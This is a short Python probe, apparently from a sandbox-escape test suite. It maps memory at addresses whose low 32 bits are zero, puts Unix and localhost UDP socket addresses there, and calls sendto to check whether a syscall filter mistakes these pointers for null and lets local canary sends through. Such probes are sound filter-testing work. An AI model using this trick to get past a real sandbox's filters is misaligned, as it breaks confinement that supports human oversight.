"""Send to an address whose pointer has a low half of zero, which a filter may take for none.

canary: abstract, udp
control: through
"""
import ctypes
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
FIXED = 0x100000
pages = []
for wanted in (0x1000_0000_0000, 0x2_0000_0000, 0x7000_0000_0000):
    page = libc.mmap(ctypes.c_void_p(wanted), ctypes.c_size_t(4096), 3, 0x22 | FIXED, -1, ctypes.c_long(0))
    if page == wanted:
        pages.append(page)
name = TARGETS["abstract_dgram_name"].encode()
unix = struct.pack("=H", socket.AF_UNIX) + b"\0" + name
port = struct.pack(">H", TARGETS["udp_port"])
inet = struct.pack("=H", socket.AF_INET) + port + socket.inet_aton("127.0.0.1") + bytes(8)
for family, kind, address in (
    (socket.AF_UNIX, socket.SOCK_DGRAM, unix),
    (socket.AF_UNIX, socket.SOCK_STREAM, unix),
    (socket.AF_INET, socket.SOCK_DGRAM, inet),
):
    for make in (lambda: socket.socketpair(family, kind)[0], lambda: socket.socket(family, kind)):
        try:
            sender = make()
        except OSError as error:
            print(error)
            continue
        for page in pages:
            ctypes.memmove(page, address, len(address))
            size = ctypes.c_uint(len(address))
            print(libc.sendto(sender.fileno(), b"x", ctypes.c_size_t(1), 0, ctypes.c_void_p(page), size))
